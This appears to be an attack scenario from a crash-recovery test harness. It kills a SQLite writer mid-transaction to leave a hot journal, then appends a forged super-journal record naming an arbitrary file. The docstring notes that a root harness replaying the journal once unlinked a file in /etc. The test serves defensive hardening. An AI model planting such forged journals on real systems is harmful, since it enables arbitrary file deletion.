"""Attack: the SQLite-journal runtime, which leaves its store with a real hot journal naming a host file.

A recovery incarnation runs the plan as the SQLite-journal runtime does (its
store in DELETE mode), then a child of its own opens a transaction too big for
its cache and is SIGKILLed in the middle of it, so ``agent.db-journal`` is hot,
and a super-journal record naming ``argv[1]`` is appended to that journal. An
SQLite that played the journal back would open, read and unlink ``argv[1]``:
the harness, reading the store as root, once did (a file in /etc, under
``--backend docker`` too, since the name is only a string the container wrote).
The crash-free run leaves a clean store, so the session gets as far as a kill.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from killpoint.client import WorkloadEnv
from killpoint.scenarios.sqlite_journal.runtime import main as run_sqlite_journal

STORE = "agent.db"
JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")  # sqlite's pager.c aJournalMagic
# A writer whose transaction outgrows a one-page cache: the pages are in the database file and their
# originals in the -journal when it is killed.
WRITER = """
import sqlite3, sys, time
connection = sqlite3.connect(sys.argv[1], isolation_level=None)
connection.execute("PRAGMA cache_size = 1")
connection.execute("BEGIN")
connection.execute("CREATE TABLE IF NOT EXISTS pad (x)")
connection.executemany("INSERT INTO pad VALUES (?)", [("y" * 500,) for _ in range(3000)])
print("in the middle", flush=True)
time.sleep(600)
"""


def leave_hot_journal(store: Path, named: str) -> None:
    writer = subprocess.Popen([sys.executable, "-c", WRITER, str(store)], stdout=subprocess.PIPE, text=True)
    try:
        assert writer.stdout is not None and writer.stdout.readline() == "in the middle\n"
    finally:
        writer.kill()
        writer.wait()
    name = named.encode()
    checksum = sum(byte - 256 if byte > 127 else byte for byte in name) & 0xFFFFFFFF  # writeSuperJournal's
    with open(f"{store}-journal", "ab") as journal:
        journal.write(name + len(name).to_bytes(4, "big") + checksum.to_bytes(4, "big") + JOURNAL_MAGIC)


def main(argv: list[str]) -> int:
    env = WorkloadEnv.from_environ()
    code = run_sqlite_journal(["--journal-mode", "delete", "--synchronous", "extra"])
    if env.incarnation > 0:
        leave_hot_journal(env.run_dir / STORE, argv[0])
    return code


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
